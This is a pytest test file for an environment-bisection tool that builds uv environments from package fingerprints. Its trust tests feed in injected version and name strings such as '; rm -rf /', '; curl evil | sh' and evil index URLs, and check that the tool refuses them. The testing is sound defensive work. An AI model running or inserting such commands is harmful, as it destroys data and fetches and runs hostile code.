"""Environment bisection's building blocks: package groups, package sets, the trust rules for a
golden's packages, and environments built with uv (offline where possible; one real build)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest
from conftest import real_uv_cache

from envaudit.environments import (
    EnvBuildError,
    PackageGroup,
    PackageSet,
    base_pins,
    clear_cache,
    ensure_env,
    env_root,
    own_copy,
    package_groups,
    restore_problem,
    restored,
    run_workload,
)
from envaudit.environments import cache as cachemod
from envaudit.environments import uv as uvmod
from envaudit.environments.uv_output import uv_reason
from envaudit.fingerprint import Fingerprint


def fingerprint(**packages: str | dict) -> Fingerprint:
    """A fingerprint whose packages section holds ``name=version`` (``_`` for ``-``), or a whole
    entry where a dict is given."""
    section = {name.replace("_", "-"): value if isinstance(value, dict) else {"version": value}
               for name, value in packages.items()}
    return Fingerprint({"schema": "envaudit.fingerprint/1", "packages": section})


TF_220_CPU = dict(tensorflow_cpu="2.20.0", numpy="2.4.6", keras="3.15.1", ml_dtypes="0.5.4",
                  protobuf="6.31.1", rich="14.0.0", tensorboard="2.20.0")
TF_221 = dict(tensorflow="2.21.0", numpy="2.4.6", keras="3.15.1", ml_dtypes="0.6.0",
              protobuf="7.36.2", rich="15.0.0")


@pytest.fixture
def cache(tmp_path, monkeypatch) -> Path:
    """A private XDG cache for one test; its environment root."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg-cache"))
    return env_root()


# --- groups -----------------------------------------------------------------------------------

def test_a_move_from_tensorflow_cpu_to_tensorflow_is_one_group_with_its_companions():
    groups = package_groups(fingerprint(**TF_220_CPU), fingerprint(**TF_221))
    assert groups == [PackageGroup(
        "tensorflow",
        golden={"ml-dtypes": "0.5.4", "tensorboard": "2.20.0", "tensorflow": None,
                "tensorflow-cpu": "2.20.0"},
        current={"ml-dtypes": "0.6.0", "tensorboard": None, "tensorflow": "2.21.0",
                 "tensorflow-cpu": None})]
    assert groups[0].describe() == ("tensorflow: ml-dtypes 0.5.4, tensorboard 2.20.0,"
                                    " tensorflow-cpu 2.20.0 -> ml-dtypes 0.6.0, tensorflow 2.21.0")


def test_numpy_keras_and_other_numerics_packages_are_groups_of_their_own_in_order():
    golden = fingerprint(**TF_221, scipy="1.15.0", jax="0.6.0", tf_keras="2.20.0")
    current = fingerprint(**{**TF_221, "numpy": "2.3.0", "keras": "3.16.0"}, scipy="1.16.0",
                          jax="0.7.0", tf_keras="2.21.0")
    groups = package_groups(golden, current)
    assert [g.name for g in groups] == ["numpy", "keras", "jax", "scipy"]
    assert groups[0] == PackageGroup("numpy", {"numpy": "2.4.6"}, {"numpy": "2.3.0"})
    assert dict(groups[1].golden) == {"keras": "3.15.1", "tf-keras": "2.20.0"}


def test_changes_that_cannot_move_numbers_make_no_group():
    golden = fingerprint(**TF_221, tensorboard="2.20.0", nvidia_ml_py="12.0.0")
    current = fingerprint(**{**TF_221, "rich": "13.0.0", "protobuf": "5.0.0"},
                          tensorboard="2.19.0", nvidia_ml_py="13.0.0")
    assert package_groups(golden, current) == []


def test_companion_wheels_join_the_tensorflow_group():
    golden = fingerprint(tensorflow="2.20.0", tensorflow_io_gcs_filesystem="0.37.1",
                         nvidia_cudnn_cu12="9.3.0.75", tf_estimator_nightly="2.14.0")
    current = fingerprint(tensorflow="2.21.0", nvidia_cudnn_cu12="9.10.0.1")
    [group] = package_groups(golden, current)
    assert group.name == "tensorflow"
    assert set(group.golden) == {"tensorflow", "tensorflow-io-gcs-filesystem",
                                 "nvidia-cudnn-cu12", "tf-estimator-nightly"}


def test_an_unreadable_packages_section_gives_no_groups():
    unreadable = Fingerprint({"packages": {"available": False, "reason": "OSError"}})
    assert package_groups(unreadable, fingerprint(**TF_221)) == []
    assert package_groups(fingerprint(**TF_221), unreadable) == []


def test_groups_are_frozen_hashable_and_plain_json():
    [group] = package_groups(fingerprint(numpy="2.3.0"), fingerprint(numpy="2.4.6"))
    with pytest.raises(TypeError):
        group.golden["numpy"] = "1.0"  # type: ignore[index]
    assert group in {group}
    assert json.loads(json.dumps(group.to_dict())) == {
        "name": "numpy", "golden": {"numpy": "2.3.0"}, "current": {"numpy": "2.4.6"},
        "golden_direct": []}


# --- package sets and restoring -----------------------------------------------------------------

def test_package_set_key_is_stable_and_depends_on_what_an_environment_depends_on(monkeypatch):
    a = PackageSet((("tensorflow", "2.21.0"), ("numpy", "2.4.6")))
    b = PackageSet.of({"numpy": "2.4.6", "tensorflow": "2.21.0"})
    assert a == b and a.key() == b.key() and len(a.key()) == 64
    assert a.requirements() == ["numpy==2.4.6", "tensorflow==2.21.0"]
    others = {PackageSet.of({"numpy": "2.4.5", "tensorflow": "2.21.0"}).key(),
              PackageSet.of({"numpy": "2.4.6", "tensorflow": "2.21.0", "h5py": "3.14.0"}).key(),
              PackageSet.of({"numpy": "2.4.6"}).key()}
    assert a.key() not in others and len(others) == 3
    key = a.key()
    with monkeypatch.context() as patch:
        patch.setattr("sysconfig.get_platform", lambda: "macosx-14.0-arm64")
        assert a.key() != key
    with monkeypatch.context() as patch:
        patch.setattr(sys, "version_info", (3, 99, 0, "final", 0))
        assert a.key() != key
    assert a.key() == key
    with pytest.raises(ValueError, match="one version per distribution"):
        PackageSet((("numpy", "1.0"), ("numpy", "2.0")))


def test_base_pins_are_what_the_workload_needs_at_this_environments_versions():
    current = fingerprint(**TF_221, tensorboard="2.20.0", nvidia_cublas_cu12="12.5.3.2",
                          nvidia_ml_py="13.615.71", h5py="3.14.0", psutil="7.2.2",
                          py_cpuinfo="9.0.0", scipy="1.16.0",
                          envaudit={"version": "0.1.0", "direct_url": {"url": "file:///x"}})
    assert base_pins(current) == {
        "tensorflow": "2.21.0", "tensorboard": "2.20.0", "nvidia-cublas-cu12": "12.5.3.2",
        "numpy": "2.4.6", "keras": "3.15.1", "ml-dtypes": "0.6.0", "protobuf": "7.36.2",
        "h5py": "3.14.0"}


def test_restored_puts_each_groups_golden_side_back():
    golden, current = fingerprint(**TF_220_CPU), fingerprint(**TF_221, h5py="3.14.0")
    base = base_pins(current)
    assert restored(base, []).as_dict() == base
    # protobuf and h5py cannot move numbers: left to uv once something is restored (TensorFlow
    # 2.20 may need another protobuf than this environment's)
    assert restored(base, package_groups(golden, current)).as_dict() == {
        "tensorflow-cpu": "2.20.0", "tensorboard": "2.20.0", "ml-dtypes": "0.5.4",
        "numpy": "2.4.6", "keras": "3.15.1"}
    numpy_only = PackageGroup("numpy", {"numpy": "2.3.0"}, {"numpy": "2.4.6"})
    assert restored(base, [numpy_only]).as_dict() == {
        "tensorflow": "2.21.0", "numpy": "2.3.0", "keras": "3.15.1", "ml-dtypes": "0.6.0"}
    gone = PackageGroup("keras", {"keras": "3.15.1", "tf-keras": "2.20.0"},
                        {"keras": "3.15.1", "tf-keras": None})
    assert restored({"keras": "3.15.1"}, [gone]).as_dict() == {"keras": "3.15.1",
                                                                "tf-keras": "2.20.0"}
    removed = PackageGroup("jax", {"jax": None}, {"jax": "0.7.0"})
    assert restored({"jax": "0.7.0", "numpy": "2.4.6"}, [removed]).as_dict() == {"numpy": "2.4.6"}


# --- trust: what a golden may make us install ---------------------------------------------------

@pytest.mark.parametrize("version", [
    "2.20.0; rm -rf /", "1.0+local", "https://x", "../x", "2.20.0 ", " 2.20.0",
    "--index-url=http://evil/simple", "2.20.0 @ https://evil/x.whl", "", "2.20.0\n",
    "1!2.0", "2.20.*", ">=2.20", "2.20.0-1", "v2.20.0", "2.20.0rc", "<int version>",
])
def test_a_golden_version_that_is_not_a_plain_public_release_is_refused(version):
    group = PackageGroup("tensorflow", {"tensorflow": version}, {"tensorflow": "2.21.0"})
    problem = restore_problem(group)
    assert problem and "not a plain public release" in problem
    with pytest.raises(ValueError, match="cannot be restored"):
        restored({"tensorflow": "2.21.0"}, [group])


@pytest.mark.parametrize("version", ["2.20.0", "2.21.0rc1", "1.26.4.post1", "2.22.0.dev20250601",
                                     "2", "0.6.0b2"])
def test_plain_public_releases_are_accepted(version):
    group = PackageGroup("tensorflow", {"tensorflow": version}, {"tensorflow": "2.21.0"})
    assert restore_problem(group) is None


@pytest.mark.parametrize("name", ["../x", "NumPy", "tensorflow; rm -rf /", "-e", "numpy/..",
                                  "tensorflow_cpu", "", "a" * 101, "numpy ", "x--y"])
def test_a_golden_name_that_is_not_a_normalized_distribution_name_is_refused(name):
    group = PackageGroup("tensorflow", {name: "1.0"}, {name: "2.0"})
    assert "not a normalized distribution name" in restore_problem(group)


def test_a_golden_distribution_not_installed_here_is_refused_unless_tensorflows_own():
    evil = package_groups(fingerprint(jax_evil="1.0", numpy="2.4.6"), fingerprint(numpy="2.4.6"))
    assert [g.name for g in evil] == ["jax-evil"]
    assert "not installed here" in restore_problem(evil[0])
    tf_evil = PackageGroup("tensorflow", {"tensorflow-evil": "1.0"}, {"tensorflow-evil": None})
    assert "not installed here" in restore_problem(tf_evil)
    known = PackageGroup("tensorflow",
                         {"tensorflow-cpu": "2.20.0", "nvidia-cudnn-cu12": "9.3.0.75",
                          "tensorflow": None},
                         {"tensorflow-cpu": None, "nvidia-cudnn-cu12": None,
                          "tensorflow": "2.21.0"})
    assert restore_problem(known) is None


def test_a_golden_package_installed_from_a_url_vcs_or_checkout_is_refused():
    editable = {"version": "2.20.0", "direct_url": {"url": "file:///home/x/tf", "editable": True}}
    [group] = package_groups(fingerprint(tensorflow=editable), fingerprint(tensorflow="2.21.0"))
    assert group.golden_direct == ("tensorflow",)
    assert "installed from a URL" in restore_problem(group)


def test_hostile_entries_in_a_golden_fingerprint_are_grouped_then_refused():
    golden = Fingerprint({"packages": {"tensorflow": {"version": "2.20.0; curl evil | sh"},
                                       "numpy": {"version": 2},
                                       "keras": "not an entry"}})
    groups = package_groups(golden, fingerprint(**TF_221))
    assert [g.name for g in groups] == ["tensorflow", "numpy", "keras"]
    assert all(restore_problem(g) for g in groups)


def test_ensure_env_refuses_a_pin_that_is_not_a_plain_requirement(cache, monkeypatch):
    monkeypatch.setattr(uvmod, "_run_uv", lambda *a: pytest.fail("uv must not run"))
    for pins in ({"numpy": "1.0; rm -rf /"}, {"--index-url": "1.0"}, {"numpy": "1.0 @ http://x"}):
        with pytest.raises(EnvBuildError, match="refusing to install"):
            ensure_env(PackageSet.of(pins))


# --- environments: cache folder, building, clearing (offline: an environment without packages) --

def test_env_root_honours_xdg_cache_home(monkeypatch, tmp_path):
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert env_root() == tmp_path / "envaudit" / "envs"
    monkeypatch.setenv("XDG_CACHE_HOME", "relative/cache")  # the XDG spec says: ignore it
    assert env_root() == Path.home() / ".cache" / "envaudit" / "envs"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert env_root() == tmp_path / "home" / ".cache" / "envaudit" / "envs"


def test_an_environment_is_built_once_then_taken_from_the_cache(cache, monkeypatch):
    messages: list[str] = []
    python = ensure_env(PackageSet(), messages.append)
    folder = cache / PackageSet().key()
    assert python == folder / "bin" / "python" and python.exists()
    assert json.loads((folder / "envaudit-env.json").read_text())["pins"] == []
    assert [p.name for p in cache.iterdir()] == [folder.name]  # no temporary folder left
    assert messages[0].startswith(f"building environment {folder.name[:8]}: ")
    monkeypatch.setattr(uvmod, "_run_uv", lambda *a: pytest.fail("a cached environment ran uv"))
    monkeypatch.setattr(uvmod, "_uv_binary", lambda: pytest.fail("a cached environment ran uv"))
    assert ensure_env(PackageSet()) == python


def test_a_killed_builds_leftover_is_never_taken_for_an_environment(cache, monkeypatch):
    dead = subprocess.Popen(["true"])
    dead.wait()
    leftover = cache / f".build-{cachemod._host_tag()}-{dead.pid}-abc123"  # kill -9 mid-build
    (leftover / "bin").mkdir(parents=True)
    (leftover / "envaudit-env.json").write_text("{}")

    def interrupted(site: Path) -> None:
        raise RuntimeError("interrupted half way")

    with monkeypatch.context() as patch:
        patch.setattr(own_copy, "place", interrupted)
        with pytest.raises(RuntimeError):
            ensure_env(PackageSet())
    assert list(cache.iterdir()) == []  # its own folder discarded, the dead one swept
    assert ensure_env(PackageSet()).exists()


def test_concurrent_builders_of_one_package_set_agree(cache, monkeypatch):
    place = own_copy.place
    both_built = threading.Barrier(2, timeout=60)

    def place_then_wait(site):
        place(site)
        both_built.wait()  # both builds finished: both renames race

    monkeypatch.setattr(own_copy, "place", place_then_wait)
    results: list[Path | BaseException] = []

    def build():
        try:
            results.append(ensure_env(PackageSet()))
        except BaseException as exc:  # reported by the assertion below
            results.append(exc)

    threads = [threading.Thread(target=build) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(120)
    assert results[0] == results[1] and isinstance(results[0], Path), results
    assert [p.name for p in cache.iterdir()] == [PackageSet().key()]


def test_a_stale_copy_of_envaudit_is_refused_then_refreshed(cache, tmp_path):
    python = ensure_env(PackageSet())
    site = python.parents[1] / json.loads(
        (python.parents[1] / "envaudit-env.json").read_text())["site_packages"]
    (site / "envaudit" / "workload" / "__main__.py").write_text("raise SystemExit(3)\n")
    reason = run_workload(python, tmp_path / "out.npz", ["eager"])
    assert isinstance(reason, str) and "copy of envaudit differs" in reason
    messages: list[str] = []
    assert ensure_env(PackageSet(), messages.append) == python
    assert any("replacing its copy of envaudit" in m for m in messages)
    assert own_copy.differs(site) is None


def test_the_workload_failing_in_an_environment_is_one_line_not_an_exception(cache, tmp_path):
    python = ensure_env(PackageSet())  # no NumPy, no TensorFlow
    reason = run_workload(python, tmp_path / "out.npz", ["eager"])
    assert isinstance(reason, str) and "\n" not in reason
    assert "No module named 'numpy'" in reason
    assert run_workload(python, tmp_path / "out.npz", ["eager", "warp"]) == \
        "unknown execution mode(s) warp"
    assert "not an environment built by envaudit" in run_workload(
        Path(sys.executable), tmp_path / "out.npz", ["eager"])


def test_clear_cache_removes_only_what_it_made(cache):
    python = ensure_env(PackageSet())
    dead = subprocess.Popen(["true"])
    dead.wait()
    killed = cache / f".build-{cachemod._host_tag()}-{dead.pid}-x1"
    running = cache / f".build-{cachemod._host_tag()}-{os.getpid()}-x2"
    foreign = {
        "mine": "notes.txt",  # a user's folder
        "0" * 64: "bin/python",  # named like an environment, no marker
        "fake": "envaudit-env.json",  # a marker that is not ours (schema missing)
        ".build-mine": "x",  # not our temporary name
    }
    for folder in (killed, running):
        (folder / "lib").mkdir(parents=True)
        (folder / "lib" / "x.py").write_text("x = 1\n")
    for folder, file in foreign.items():
        (cache / folder / file).parent.mkdir(parents=True, exist_ok=True)
        (cache / folder / file).write_text("{}")
    (cache / "loose-file").write_text("keep")
    (cache / "link").symlink_to(python.parents[1])
    removed, freed = clear_cache()
    assert removed == 1 and freed > 0
    left = sorted(p.name for p in cache.iterdir())
    assert left == sorted([*foreign, running.name, "loose-file", "link"])
    assert all((cache / folder / file).read_text() == "{}" for folder, file in foreign.items())
    assert clear_cache() == (0, 0)


def test_without_uv_the_error_says_how_to_install_it(cache, monkeypatch, tmp_path):
    monkeypatch.setitem(sys.modules, "uv", None)
    with pytest.raises(EnvBuildError, match="pip install uv"):
        ensure_env(PackageSet())
    broken = tmp_path / "uv"
    broken.write_text("not a program")
    monkeypatch.setattr(uvmod, "_uv_binary", lambda: str(broken))
    with pytest.raises(EnvBuildError, match="cannot run .*reinstall"):
        ensure_env(PackageSet())
    assert list(cache.iterdir()) == []


# --- uv's messages as one line --------------------------------------------------------------------

@pytest.mark.parametrize("output, reason", [
    ("Using Python 3.11.7 environment at: v\nerror: No solution found when resolving"
     " dependencies\n  cause: Because there is no version of numpy==1.0.0 and you require"
     " numpy==1.0.0, we can conclude that your requirements are unsatisfiable.\n",
     "No solution found when resolving dependencies: Because there is no version of numpy==1.0.0"
     " and you require numpy==1.0.0, we can conclude that your requirements are unsatisfiable."),
    ("error: Request failed after 3 retries in 5.9s\n  cause: Failed to fetch:"
     " http://127.0.0.1:9/simple/numpy/\n  cause: error sending request for url"
     " (http://127.0.0.1:9/simple/numpy/)\n  cause: client error (Connect)\n  cause: tcp connect"
     " error\n  cause: Connection refused (os error 111)\n",
     "Request failed after 3 retries in 5.9s: Failed to fetch: http://127.0.0.1:9/simple/numpy/:"
     " Connection refused (os error 111)"),
    ("error: No solution found when resolving dependencies\n  cause: Because tensorflow-macos=="
     "2.16.2 has no wheels with a matching platform tag (e.g., `manylinux_2_36_x86_64`) and you"
     " require tensorflow-macos==2.16.2, we can conclude that your requirements are"
     " unsatisfiable.\n\nhint: Wheels are available for `tensorflow-macos` (v2.16.2) on the"
     " following platform: `macosx_12_0_arm64`\n",
     "No solution found when resolving dependencies: Because tensorflow-macos==2.16.2 has no"
     " wheels with a matching platform tag (e.g., `manylinux_2_36_x86_64`) and you require"
     " tensorflow-macos==2.16.2, we can conclude that your requirements are unsatisfiable."
     " (hint: Wheels are available for `tensorflow-macos` (v2.16.2) on the following platform:"
     " `macosx_12_0_arm64`)"),
    ("  × No solution found when resolving dependencies:\n  ╰─▶ Because tensorflow==2.21.0"
     " depends on numpy>=1.26.0\n      and you require numpy==1.0.0, we can conclude that your"
     " requirements are unsatisfiable.\n",
     "No solution found when resolving dependencies: Because tensorflow==2.21.0 depends on"
     " numpy>=1.26.0 and you require numpy==1.0.0, we can conclude that your requirements are"
     " unsatisfiable."),
    ("Resolved 3 packages\nDownloading numpy\nsomething odd happened\nwarning: slow\n",
     "something odd happened"),
    ("", ""),
])
def test_uv_failures_become_one_line(output, reason):
    assert uv_reason(output) == reason


# --- real uv ------------------------------------------------------------------------------------

@pytest.mark.parametrize("index", ["http://10.255.255.1/simple", "http://127.0.0.1:9/simple"],
                         ids=["unroutable", "refused"])
def test_an_unreachable_index_fails_within_a_minute_with_one_line(cache, monkeypatch, tmp_path,
                                                                  index):
    for name in ("PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_EXTRA_INDEX_URL",
                 "UV_INDEX", "UV_FIND_LINKS", "UV_OFFLINE", "UV_NO_CACHE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("UV_INDEX_URL", index)
    monkeypatch.setenv("UV_DEFAULT_INDEX", index)
    monkeypatch.setenv("UV_HTTP_TIMEOUT", "5")
    monkeypatch.setenv("UV_HTTP_CONNECT_TIMEOUT", "5")
    monkeypatch.setenv("UV_HTTP_RETRIES", "1")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "empty-uv-cache"))
    start = time.monotonic()
    with pytest.raises(EnvBuildError) as caught:
        ensure_env(PackageSet.of({"numpy": "2.4.6"}), timeout=120)
    elapsed = time.monotonic() - start
    message = str(caught.value)
    print(f"offline failure after {elapsed:.1f} s: {message}")
    assert elapsed < 60 and "\n" not in message and message.startswith("uv pip install failed: ")
    assert list(cache.iterdir()) == []  # nothing half built is left


@pytest.mark.slow
def test_an_environment_of_this_environments_packages_reproduces_its_bits(cache, monkeypatch,
                                                                          tmp_path):
    from envaudit.fingerprint import capture

    monkeypatch.setenv("UV_CACHE_DIR", real_uv_cache())
    pins = PackageSet.of(base_pins(capture()))
    assert any(name.startswith("tensorflow") for name, _ in pins.pins)
    start = time.monotonic()
    try:
        python = ensure_env(pins, progress=print)
    except EnvBuildError as exc:
        pytest.skip(f"cannot build the environment here (package index unreachable?): {exc}")
    built = time.monotonic() - start
    here = tmp_path / "here.npz"
    proc = subprocess.run([sys.executable, "-m", "envaudit.workload", str(here), "eager"],
                          capture_output=True, text=True, timeout=600, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    there = run_workload(python, tmp_path / "there.npz", ["eager"])
    assert not isinstance(there, str), there
    with np.load(here, allow_pickle=False) as npz:
        mine = {name: npz[name] for name in npz.files}
    assert sorted(there) == sorted(mine) and len(mine) > 10
    for name, array in mine.items():
        assert there[name].dtype == array.dtype and there[name].shape == array.shape, name
        assert there[name].tobytes() == array.tobytes(), name
    listed = subprocess.run([str(python), "-c", "import importlib.metadata as m; print(sorted("
                             "d.metadata['Name'].lower() for d in m.distributions()))"],
                            capture_output=True, text=True, check=True).stdout
    assert "psutil" not in listed and "py-cpuinfo" not in listed  # envaudit's own deps: unneeded
    monkeypatch.setattr(uvmod, "_run_uv", lambda *a: pytest.fail("a cached environment ran uv"))
    start = time.monotonic()
    assert ensure_env(pins) == python
    cached = time.monotonic() - start
    print(f"first build {built:.1f} s, cached {cached * 1000:.0f} ms")
    assert cached < 5
